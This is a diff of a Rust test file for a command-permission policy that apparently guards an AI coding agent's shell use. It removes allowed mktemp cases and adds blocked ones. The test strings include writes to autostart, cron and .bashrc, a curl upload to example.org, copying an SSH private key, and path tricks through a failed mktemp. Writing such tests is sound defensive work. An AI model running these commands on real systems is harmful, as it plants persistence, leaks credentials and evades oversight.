@@ -45,24 +45,15 @@ fn ordinary_edits_and_local_work_of_git_pass() {
     }
 }
 
-/// What mktemp(1) makes was not there before, and lies where its template says.
+/// Where mktemp(1) fails, its variable is empty, and what is written behind it lies somewhere else. So nobody can tell where.
 #[test]
-fn what_a_line_writes_to_a_new_file_lies_where_that_is() {
+fn where_a_file_of_mktemp_lies_is_not_known() {
     let found = |line: &str| {
         resolved(shell(line), |path| match lexical(path, Some("/home/ann/work/app"), Some("/home/ann")) {
             Some(path) => ResolvedPath { is_missing: path.contains("XXX"), ..ResolvedPath::new(path) },
             None => ResolvedPath::new("/"),
         })
     };
-    for line in [
-        "f=$(mktemp); cat > \"$f\" <<'EOF'\nchange .claude/settings.json\nEOF",
-        "body=$(mktemp /tmp/body.XXXXXX.md) && cat > \"$body\" <<'EOF'\ntext\nEOF\nwc -l \"$body\"",
-        "d=$(mktemp -d) && cd \"$d\" && echo x > y",
-        "LOG_FILE=$(mktemp); git log > \"$LOG_FILE\"; head -5 \"$LOG_FILE\"",
-    ] {
-        let decision = policy(&format!("version = 1\n{WORKSPACE}")).decide(&found(line), at(0));
-        assert_eq!(decision.action, Action::Allow, "{line}: {}", decision.why);
-    }
     for line in [
         "f=$(mktemp ~/.config/autostart/a.XXXXXX.desktop); echo x > \"$f\"",
         "f=$(mktemp /etc/cron.d/XXXXXX); echo x > \"$f\"",
@@ -76,6 +67,10 @@ fn what_a_line_writes_to_a_new_file_lies_where_that_is() {
         "d=$(mktemp -d); ln -s ~/.bashrc \"$d/x\"; echo x > \"$d/x\"",
         "f=$(mktemp); curl -d @\"$f\" https://example.org",
         "f=$(mktemp); cp ~/.ssh/id_rsa \"$f\"",
+        "d=$(mktemp -d /tmp/none/XXXXXX); echo x > \"$d/home/ann/.bashrc\"",
+        "f=$(mktemp /tmp/none/XXXXXX).envrc; echo x > \"$f\"",
+        "f=$(mktemp /tmp/none/XXXXXX)package.json; echo x > \"$f\"",
+        "d=$(mktemp -d /tmp/none/XXXXXX); cd \"$d\"; echo x > Makefile",
     ] {
         let decision = policy(&format!("version = 1\n{WORKSPACE}")).decide(&found(line), at(0));
         assert_ne!(decision.action, Action::Allow, "{line}: {}", decision.why);
